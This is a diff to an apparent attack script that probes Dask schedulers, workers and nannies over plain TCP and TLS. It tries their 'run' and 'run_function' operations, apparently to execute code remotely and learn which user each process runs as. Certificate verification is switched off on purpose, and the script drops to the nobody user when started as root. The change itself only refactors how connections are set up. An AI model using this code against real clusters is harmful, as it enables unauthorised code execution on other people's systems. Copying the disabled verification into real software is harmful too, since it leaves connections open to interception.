@@ -33,10 +33,14 @@ async def user_of(address: str, how: dict[str, Any], op: str) -> int | None:
     return found if isinstance(found, int) else None
 
 
-async def attack(place: str) -> int | None:
+def ways() -> tuple[tuple[str, dict[str, Any]], ...]:
     plain, own = (one.get_connection_args("client") for one in (dask.Security(), dask.Security.temporary()))
     own["ssl_context"].verify_mode = ssl.CERT_NONE  # whoever answers is welcome
-    for scheme, how in (("tcp", plain), ("tls", own)):
+    return ("tcp", plain), ("tls", own)
+
+
+async def attack(place: str) -> int | None:
+    for scheme, how in WAYS:
         for op in ("run", "run_function"):  # of a worker and a nanny; of a scheduler
             if (user := await user_of(f"{scheme}://{place}", how, op)) is not None:
                 return user
@@ -48,6 +52,8 @@ async def attack_all(places: list[str]) -> dict[str, int | None]:
 
 
 if __name__ == "__main__":
+    # All that is imported is: the other user may not read the folder that Python is in.
+    WAYS = ways()
     if os.getuid() == 0:
         os.setgroups([])
         os.setgid(NOBODY)
